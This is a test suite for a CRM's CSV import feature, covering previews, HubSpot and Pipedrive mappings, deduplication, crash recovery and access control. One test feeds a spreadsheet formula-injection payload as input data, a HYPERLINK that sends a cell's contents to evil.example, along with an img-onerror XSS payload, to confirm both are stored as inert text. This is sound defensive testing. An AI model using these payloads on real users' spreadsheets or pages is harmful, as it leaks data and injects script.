/**
 * CSV import: the dry run shows per-row errors and writes nothing; the worker imports a
 * HubSpot contacts export with its companies linked, as the person who started it; a second
 * import creates no duplicates; the mapping is remembered; a crash mid-chunk resumes without
 * duplicates or gaps; formula and XSS payloads come back as plain text; only editors import,
 * and nobody sees another person's job.
 */
import fs from 'node:fs';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { beforeAll, expect, it } from 'vitest';
import { createApp } from '../src/api/app.ts';
import { importDrain } from '../src/worker/import-drain.ts';
import { createWorker, type WorkerLog } from '../src/worker/worker.ts';
import { callApi, FAST_IDENTITY, signIn, type SignedIn } from './auth.ts';
import { counts, dbSuite } from './db.ts';

const HUBSPOT = fs.readFileSync(path.join(import.meta.dirname, 'fixtures', 'hubspot-contacts.csv'), 'utf8');
const WRITTEN = ['companies', 'contacts', 'leads', 'interactions', 'audit_log', 'import_jobs', 'import_mappings', 'status_history', 'webhook_deliveries'];

dbSuite('csv import', ({ database }) => {
  const log: WorkerLog & { errors: string[] } = { errors: [], info: () => {}, error(m) { this.errors.push(m); } };
  let app: ReturnType<typeof createApp>;
  let editor: SignedIn;
  let harbourId: string;

  const q = <T = Record<string, any>>(text: string, params: unknown[] = []) => database().query<T>(text, params);
  const worker = (opts: Parameters<typeof importDrain>[0] = {}) => createWorker({ database: database(), drains: [importDrain({ log, ...opts })], log });

  beforeAll(async () => {
    app = createApp({ database: database(), identity: FAST_IDENTITY, webDir: null });
    editor = await signIn(app, database(), 'editor');
    const harbour = await callApi(app, editor, 'POST', '/api/v1/companies', { name: 'Harbour Logistics', website: 'harbourlogistics.com.au' });
    harbourId = harbour.id;
  });

  it('previews the HubSpot contacts export with per-row errors and writes nothing', async () => {
    const before = await counts(database(), WRITTEN);
    const p = await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: HUBSPOT }, 200);
    expect(p).toMatchObject({ target: 'contacts', format: 'hubspot', detected_format: 'hubspot', mapping_source: 'preset', total_rows: 9 });
    const field = (column: string) => p.mapping.find((m: any) => m.column === column);
    expect(field('First Name')).toEqual({ column: 'First Name', field: 'first_name', source: 'preset' });
    expect(field('Website URL')).toMatchObject({ field: 'company_domain' });
    expect(field('Company Name')).toMatchObject({ field: 'company_name' });
    expect(field('Phone Number')).toMatchObject({ field: 'phone' });
    expect(p.unmapped_columns).toEqual(['Record ID', 'Lifecycle Stage', 'Contact owner', 'Create Date', 'Last Activity Date', 'Country/Region']);
    // Rows 1–4, 7, 8 are new; row 9 repeats row 1's email and fills its blank phone; Bondi and Redgum would be created.
    expect(p).toMatchObject({ would_create: 6, would_update: 1, would_skip: 0, error_rows: 2, companies_to_create: 2, errors_total: 2 });
    expect(p.errors).toEqual([
      { row: 5, field: 'email', column: 'Email', message: 'must be an email address' },
      { row: 6, field: 'name', column: null, message: 'is required (map a name column, or first and last name)' },
    ]);
    expect(await counts(database(), WRITTEN)).toEqual(before);
  });

  it('imports it through the worker: contacts created, companies matched by domain or created and linked, bad rows reported', async () => {
    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'contacts', csv: HUBSPOT, file_name: 'hubspot-contacts.csv', mapping: { 'Lifecycle Stage': 'notes' } });
    expect(job).toMatchObject({ status: 'pending', total_rows: 9, processed_rows: 0, source_format: 'hubspot', created_by: editor.user.id, done: false });
    expect(job.csv).toBeUndefined();

    expect(await worker().runOnce()).toEqual({ import: 9 });
    const status = await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`);
    expect(status).toMatchObject({ status: 'completed', total_rows: 9, processed_rows: 9, percent: 100, created_count: 6, updated_count: 1, skipped_count: 0, error_count: 2, done: true, errors_truncated: false });
    expect(status.errors.map((e: any) => [e.row, e.field, e.column])).toEqual([[5, 'email', 'Email'], [6, 'name', null]]);
    expect(status.finished_at).toBeTruthy();

    const contacts = await q(`select c.name, c.email, c.phone, c.role_title, c.location, c.notes, c.owner_id, co.name as company, co.domain from contacts c left join companies co on co.id = c.company_id where c.email is not null order by c.name`);
    expect(contacts.map((c) => [c.name, c.company, c.domain])).toEqual([
      ['Aisha Karim', 'Redgum Energy', null],
      ['Daniel Brooks', null, null],
      ['James Whitfield', 'Bondi Builders', 'bondibuilders.com.au'],
      ['Priya Raman', 'Harbour Logistics', 'harbourlogistics.com.au'],
      ['Sarah O\'Connell', 'Bondi Builders', 'bondibuilders.com.au'],
      ['Tom Nguyen', 'Harbour Logistics', 'harbourlogistics.com.au'],
    ]);
    const priya = contacts.find((c) => c.name === 'Priya Raman')!;
    // Row 9 filled row 1's blank phone; the rest of row 1 stands.
    expect(priya).toMatchObject({ email: 'priya.raman@harbourlogistics.com.au', phone: '+61 2 9555 0101', role_title: 'Operations Manager', location: 'Sydney', notes: 'customer', owner_id: editor.user.id });
    expect(contacts.find((c) => c.name === 'Aisha Karim')!.role_title).toBe('Head of Finance, APAC');
    // Harbour was matched by domain (not made again under "Harbour Logistics Pty Ltd"); the bad rows made no company.
    const companies = await q(`select id, name from companies order by name`);
    expect(companies.map((c) => c.name)).toEqual(['Bondi Builders', 'Harbour Logistics', 'Redgum Energy']);
    expect(companies.find((c) => c.name === 'Harbour Logistics')!.id).toBe(harbourId);

    // The audit names the person who imported, and the creates went through the resource layer.
    const audit = await q(`select actor_type, actor_id, count(*)::int as n from audit_log where table_name = 'contacts' and operation = 'import.start' and action = 'create' group by 1, 2`);
    expect(audit).toEqual([{ actor_type: 'user', actor_id: editor.user.id, n: 6 }]);
    const [companyAudit] = await q(`select count(*)::int as n from audit_log where table_name = 'companies' and operation = 'import.start' and actor_id = $1`, [editor.user.id]);
    expect(companyAudit!.n).toBe(2);
    const mine = await callApi(app, editor, 'GET', '/api/v1/imports');
    expect(mine.items.map((j: any) => j.id)).toContain(job.id);
  });

  it('imports the same file again without duplicates', async () => {
    const before = await counts(database(), ['contacts', 'companies']);
    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'contacts', csv: HUBSPOT });
    await worker().runOnce();
    const status = await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`);
    expect(status).toMatchObject({ status: 'completed', processed_rows: 9, created_count: 0, updated_count: 0, skipped_count: 7, error_count: 2 });
    expect(await counts(database(), ['contacts', 'companies'])).toEqual(before);
  });

  it('remembers the mapping for the same headers, and the request still wins over it', async () => {
    const p = await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: HUBSPOT }, 200);
    expect(p.mapping_source).toBe('remembered');
    expect(p.mapping.find((m: any) => m.column === 'Lifecycle Stage')).toEqual({ column: 'Lifecycle Stage', field: 'notes', source: 'remembered' });
    expect(p).toMatchObject({ would_create: 0, would_skip: 7, error_rows: 2 });

    // Columns in another order are the same headers.
    const lines = HUBSPOT.trim().split('\n').map((l) => l.split(','));
    const swapped = lines.slice(0, 1).map((h) => [h[1], h[0], ...h.slice(2)].join(',')).join('\n') + '\nZed,1,Zed,zed@example.com\n';
    const other = await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: swapped, mapping: { 'Lifecycle Stage': null } }, 200);
    expect(other.mapping_source).toBe('request');
    expect(other.mapping.find((m: any) => m.column === 'Lifecycle Stage')).toEqual({ column: 'Lifecycle Stage', field: null, source: 'request' });
    expect(other.mapping.find((m: any) => m.column === 'Email')).toMatchObject({ field: 'email', source: 'remembered' });

    // Someone else has their own memory.
    const colleague = await signIn(app, database(), 'editor');
    const theirs = await callApi(app, colleague, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: HUBSPOT }, 200);
    expect(theirs.mapping_source).toBe('preset');

    await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: HUBSPOT, mapping: { Nope: 'email' } }, 400);
    await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: HUBSPOT, mapping: { Email: 'password_hash' } }, 400);
  });

  it('resumes after a crash mid-chunk: every row imported exactly once, processed_rows = total_rows', async () => {
    const t = randomBytes(3).toString('hex');
    const rows = Array.from({ length: 8 }, (_, i) => `Person ${i} ${t},person${i}.${t}@resume.example,Resume Co ${t},resume-${t}.example`);
    const csv = ['name,email,company_name,company_domain', ...rows].join('\n');
    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'contacts', csv });
    const mineNow = () => q(`select name from contacts where email like $1 order by name`, [`%.${t}@resume.example`]);

    let crashed = false;
    const crashing = worker({
      chunkSize: 3,
      retryDelayMs: 0,
      beforeRow: (id, index) => {
        // Row 5 is the middle of the second chunk: row 4 is written before the crash.
        if (id === job.id && index === 4 && !crashed) {
          crashed = true;
          throw new Error('simulated crash');
        }
      },
    });
    log.errors.length = 0;
    expect(await crashing.runOnce()).toEqual({ import: 0 });
    expect(log.errors).toEqual([expect.stringContaining('import failed')]);
    const [mid] = await q(`select status, processed_rows, created_count, faults from import_jobs where id = $1`, [job.id]);
    expect(mid).toMatchObject({ status: 'running', processed_rows: 3, created_count: 3, faults: 1 });
    // The second chunk rolled back whole: row 4 is not there.
    expect((await mineNow()).map((r) => r.name)).toEqual([0, 1, 2].map((i) => `Person ${i} ${t}`));

    await crashing.runOnce();
    const status = await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`);
    expect(status).toMatchObject({ status: 'completed', total_rows: 8, processed_rows: 8, created_count: 8, error_count: 0 });
    expect((await mineNow()).map((r) => r.name)).toEqual(Array.from({ length: 8 }, (_, i) => `Person ${i} ${t}`));
    const [dups] = await q(`select count(*)::int as n from contacts where email like $1 group by lower(email) having count(*) > 1`, [`%.${t}@resume.example`]);
    expect(dups).toBeUndefined();
    const [co] = await q(`select count(*)::int as n from companies where domain = $1`, [`resume-${t}.example`]);
    expect(co!.n).toBe(1);
  });

  it('imports a neutralised formula as its original text and an XSS payload as plain text', async () => {
    const t = randomBytes(3).toString('hex');
    const formula = `=HYPERLINK("http://evil.example/?q="&A1,"Click")`;
    const xss = `"><img src=x onerror=alert(1)>`;
    const csv = [
      'name,website,notes',
      // As our export writes them: a leading apostrophe, quotes doubled.
      `"'${formula.replace(/"/g, '""')}",formula-${t}.example,"'+1+1"`,
      `"${xss.replace(/"/g, '""')} ${t}",xss-${t}.example,"@SUM(1,2) stays"`,
      `"+61 raw ${t}",raw-${t}.example,"'plain apostrophe"`,
    ].join('\r\n');
    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'companies', csv, format: 'generic' });
    await worker().runOnce();
    expect(await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`)).toMatchObject({ status: 'completed', created_count: 3, error_count: 0 });
    const rows = await q(`select name, notes from companies where domain in ($1, $2, $3) order by domain`, [`formula-${t}.example`, `raw-${t}.example`, `xss-${t}.example`]);
    expect(rows).toEqual([
      { name: formula, notes: '+1+1' },
      // Not neutralised: stored as given.
      { name: `+61 raw ${t}`, notes: `'plain apostrophe` },
      { name: `${xss} ${t}`, notes: '@SUM(1,2) stays' },
    ]);
  });

  it('refuses viewers, and hides a job from another editor', async () => {
    const viewer = await signIn(app, database(), 'viewer');
    const before = await counts(database(), WRITTEN);
    await callApi(app, viewer, 'POST', '/api/v1/imports/preview', { target: 'contacts', csv: HUBSPOT }, 403);
    await callApi(app, viewer, 'POST', '/api/v1/imports', { target: 'contacts', csv: HUBSPOT }, 403);
    // The two refusals are audited as such; nothing else is written.
    const refused = await q(`select operation from audit_log where action = 'refused' and on_behalf_of = $1 order by at`, [viewer.user.id]);
    expect(refused.map((r) => r.operation)).toEqual(['import.preview', 'import.start']);
    expect(await counts(database(), WRITTEN)).toEqual({ ...before, audit_log: before.audit_log! + 2 });

    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'contacts', csv: HUBSPOT });
    const other = await signIn(app, database(), 'editor');
    await callApi(app, other, 'GET', `/api/v1/imports/${job.id}`, undefined, 404);
    await callApi(app, other, 'POST', `/api/v1/imports/${job.id}/cancel`, undefined, 404);
    expect((await callApi(app, other, 'GET', '/api/v1/imports')).items).toEqual([]);
    const admin = await signIn(app, database(), 'admin');
    expect(await callApi(app, admin, 'GET', `/api/v1/imports/${job.id}`)).toMatchObject({ id: job.id, status: 'pending' });

    // Its owner cancels it: the worker leaves it alone.
    expect(await callApi(app, editor, 'POST', `/api/v1/imports/${job.id}/cancel`, undefined, 200)).toMatchObject({ status: 'cancelled', done: true });
    expect(await worker().runOnce()).toEqual({ import: 0 });
    expect(await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`)).toMatchObject({ status: 'cancelled', processed_rows: 0 });
  });

  it('imports a Pipedrive organizations export as companies, matching one by name', async () => {
    const t = randomBytes(3).toString('hex');
    const csv = [
      'Organization - ID,Organization - Name,Organization - Owner,Organization - Address,Organization - Website,Organization - People,Organization - Open deals,Organization - Label',
      `101,Kestrel Mining ${t},Sam Patel,"12 Pit Rd, Kalgoorlie WA 6430",https://kestrel-${t}.example,3,1,Hot lead`,
      `102,Lyrebird Studios ${t},Sam Patel,,lyrebird-${t}.example,1,0,`,
      '103,Redgum Energy,Sam Patel,"80 Collins St, Melbourne VIC 3000",https://www.redgumenergy.com.au,1,0,Customer',
    ].join('\n');
    const p = await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'companies', csv }, 200);
    expect(p).toMatchObject({ format: 'pipedrive', mapping_source: 'preset', would_create: 2, would_update: 1, error_rows: 0 });
    expect(p.mapping.find((m: any) => m.column === 'Organization - Name')).toMatchObject({ field: 'name', source: 'preset' });

    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'companies', csv });
    await worker().runOnce();
    expect(await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`)).toMatchObject({ status: 'completed', source_format: 'pipedrive', created_count: 2, updated_count: 1 });
    const rows = await q(`select name, domain, address from companies where name like $1 or name = 'Redgum Energy' order by name`, [`% ${t}`]);
    expect(rows).toEqual([
      { name: `Kestrel Mining ${t}`, domain: `kestrel-${t}.example`, address: '12 Pit Rd, Kalgoorlie WA 6430' },
      { name: `Lyrebird Studios ${t}`, domain: `lyrebird-${t}.example`, address: null },
      // Matched by name: its blank website and address filled, not a second Redgum.
      { name: 'Redgum Energy', domain: 'redgumenergy.com.au', address: '80 Collins St, Melbourne VIC 3000' },
    ]);
  });

  it('imports interactions linked to their company and contact by natural key, and leads de-duplicated by email', async () => {
    const t = randomBytes(3).toString('hex');
    const interactions = [
      'date,type,subject,company,contact_email',
      `2024-11-04 09:30,call,Discovery call ${t},Harbour Logistics,priya.raman@harbourlogistics.com.au`,
      `2024-11-05,meeting,Site visit ${t},bondibuilders.com.au,`,
      `2024-11-06,call,Nobody ${t},No Such Company ${t},`,
      `2024-11-07,carrier pigeon,Bad type ${t},Harbour Logistics,`,
    ].join('\n');
    const p = await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'interactions', csv: interactions }, 200);
    expect(p).toMatchObject({ would_create: 2, error_rows: 2 });
    const job = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'interactions', csv: interactions });
    await worker().runOnce();
    const status = await callApi(app, editor, 'GET', `/api/v1/imports/${job.id}`);
    expect(status).toMatchObject({ status: 'completed', created_count: 2, error_count: 2 });
    expect(status.errors.map((e: any) => [e.row, e.field, e.column])).toEqual([[3, 'company_name', 'company'], [4, 'type', 'type']]);
    const rows = await q(`select i.subject, i.interaction_date, co.name as company, c.email from interactions i left join companies co on co.id = i.company_id left join contacts c on c.id = i.contact_id where i.subject like $1 order by i.subject`, [`% ${t}`]);
    expect(rows.map((r) => [r.subject, r.company, r.email])).toEqual([
      [`Discovery call ${t}`, 'Harbour Logistics', 'priya.raman@harbourlogistics.com.au'],
      [`Site visit ${t}`, 'Bondi Builders', null],
    ]);
    expect(new Date(rows[0]!.interaction_date).toISOString()).toBe('2024-11-04T09:30:00.000Z');
    // The same file again: matched by type, date, subject, company and contact.
    const again = await callApi(app, editor, 'POST', '/api/v1/imports/preview', { target: 'interactions', csv: interactions }, 200);
    expect(again).toMatchObject({ would_create: 0, would_skip: 2 });

    const leads = ['first_name,last_name,email,company,website', `Ana,Silva,ana.${t}@example.com,Kestrel,`, `Ana,Silva,ANA.${t}@example.com,Kestrel,kestrel.example`].join('\n');
    const lj = await callApi(app, editor, 'POST', '/api/v1/imports', { target: 'leads', csv: leads });
    await worker().runOnce();
    expect(await callApi(app, editor, 'GET', `/api/v1/imports/${lj.id}`)).toMatchObject({ status: 'completed', created_count: 1, updated_count: 1 });
    const [lead] = await q(`select count(*) over ()::int as n, company_website, score from leads where lower(email) = $1`, [`ana.${t}@example.com`]);
    expect(lead).toMatchObject({ n: 1, company_website: 'kestrel.example' });
    // The lead was scored by the after-write hook, as any lead written through the resource layer.
    const [scored] = await q(`select count(*)::int as n from lead_scores s join leads l on l.id = s.lead_id where lower(l.email) = $1`, [`ana.${t}@example.com`]);
    expect(scored!.n).toBeGreaterThan(0);
  });
});
